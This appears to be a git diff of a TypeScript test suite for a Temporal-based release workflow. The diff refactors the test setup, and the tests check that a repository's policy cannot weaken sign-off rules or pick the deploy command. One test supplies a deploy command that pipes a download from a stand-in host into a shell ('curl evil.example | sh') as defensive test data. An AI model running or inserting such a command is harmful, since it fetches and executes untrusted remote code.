@@ -1,12 +1,9 @@
 import assert from 'node:assert/strict';
-import { after, before, describe, it } from 'node:test';
-import type { WorkflowBundleWithSourceMap } from '@temporalio/worker';
-import type { TestWorkflowEnvironment } from '@temporalio/testing';
+import { describe, it } from 'node:test';
 import { parseWorkerPolicy } from '../../src/domain/policy';
 import { rejectUpdate, statusQuery } from '../../src/workflows/messages';
 import { releaseWorkflow } from '../../src/workflows';
-import { timeSkippingEnv } from '../helpers/servers';
-import { bundleQuietly, workerOn } from '../helpers/workflow-worker';
+import { timeSkippingSuite } from '../helpers/workflow-worker';
 import { waitForQuiet, waitForStatus } from '../helpers/status';
 import { criticalChange, fakeActivities, fakeReleaseInput, lowChange } from '../helpers/fake-activities';
 
@@ -15,24 +12,14 @@ import { criticalChange, fakeActivities, fakeReleaseInput, lowChange } from '../
  * A repository's policy file cannot lower the bar nor choose the deploy command.
  */
 describe('the release policy in the workflow (time-skipping server, fake activities)', () => {
-  let env: TestWorkflowEnvironment;
-  let bundle: WorkflowBundleWithSourceMap;
-
-  before(async () => {
-    env = await timeSkippingEnv();
-    bundle = await bundleQuietly();
-  });
-  after(async () => {
-    await env?.teardown();
-  });
-
-  const withWorker = workerOn(() => env, () => bundle, 'policy');
+  const suite = timeSkippingSuite('policy');
+  const { withWorker } = suite;
 
   it('asks for a sign-off on a CRITICAL change even when the repository\'s policy narrows the critical areas and the levels needing one', async () => {
     const { activities } = fakeActivities({ change: criticalChange });
     const lowered = { risk: { criticalAreas: ['nothing/**'] }, approval: { requiredFor: [] } };
     const status = await withWorker(activities, async (taskQueue) => {
-      const handle = await env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'policy-floors', args: [fakeReleaseInput('policy-floors', 'auth', lowered)] });
+      const handle = await suite.env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'policy-floors', args: [fakeReleaseInput('policy-floors', 'auth', lowered)] });
       const waiting = await waitForStatus(handle, (s) => s.pendingApproval !== undefined);
       await waitForQuiet(handle);
       await handle.executeUpdate(rejectUpdate, { args: [{ by: 'sre', reason: 'test over' }] });
@@ -50,7 +37,7 @@ describe('the release policy in the workflow (time-skipping server, fake activit
     const { activities, calls } = fakeActivities({ change: lowChange, workerPolicy: policy.policy });
     const input = fakeReleaseInput('policy-owned', 'auth', { deploy: { command: ['sh', '-c', 'curl evil.example | sh'] }, bake: { staging: '0s', production: '0s' } });
     const { result, status } = await withWorker(activities, async (taskQueue) => {
-      const handle = await env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'policy-owned', args: [input] });
+      const handle = await suite.env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'policy-owned', args: [input] });
       return { result: await handle.result(), status: await handle.query(statusQuery) };
     });
     assert.equal(result.outcome, 'released', result.reason);
@@ -69,7 +56,7 @@ describe('the release policy in the workflow (time-skipping server, fake activit
   it('a sign-off nobody is named or verified to give aborts the release before anything is deployed; allowed signers are the approvers', async () => {
     const { activities, calls } = fakeActivities({ change: criticalChange });
     const result = await withWorker(activities, (taskQueue) =>
-      env.client.workflow.execute(releaseWorkflow, { taskQueue, workflowId: 'no-approvers', args: [fakeReleaseInput('no-approvers', 'auth', { approval: { approvers: [] } })] }),
+      suite.env.client.workflow.execute(releaseWorkflow, { taskQueue, workflowId: 'no-approvers', args: [fakeReleaseInput('no-approvers', 'auth', { approval: { approvers: [] } })] }),
     );
     assert.equal(result.outcome, 'aborted');
     assert.match(result.reason ?? '', /Sign-off needed but no approver is configured: approval\.approvers is empty and the worker verifies no signers/);
@@ -77,7 +64,7 @@ describe('the release policy in the workflow (time-skipping server, fake activit
     // The same release on a worker with an allowed-signers file waits for a signed sign-off.
     const signed = fakeActivities({ change: criticalChange, signers: '/etc/rollgate/allowed_signers' });
     const waiting = await withWorker(signed.activities, async (taskQueue) => {
-      const handle = await env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'signers-approve', args: [fakeReleaseInput('signers-approve', 'auth', { approval: { approvers: [] } })] });
+      const handle = await suite.env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'signers-approve', args: [fakeReleaseInput('signers-approve', 'auth', { approval: { approvers: [] } })] });
       const status = await waitForStatus(handle, (s) => s.pendingApproval !== undefined);
       await handle.terminate('test over');
       return status;
@@ -90,7 +77,7 @@ describe('the release policy in the workflow (time-skipping server, fake activit
     assert.ok(policy.ok);
     const { activities, calls } = fakeActivities({ change: lowChange, workerPolicy: policy.policy });
     const { result, status } = await withWorker(activities, async (taskQueue) => {
-      const handle = await env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'unreadable-policy', args: [fakeReleaseInput('unreadable-policy', 'auth', { deploy: { timeout: '0s' } })] });
+      const handle = await suite.env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'unreadable-policy', args: [fakeReleaseInput('unreadable-policy', 'auth', { deploy: { timeout: '0s' } })] });
       return { result: await handle.result(), status: await handle.query(statusQuery) };
     });
     assert.equal(result.outcome, 'aborted');
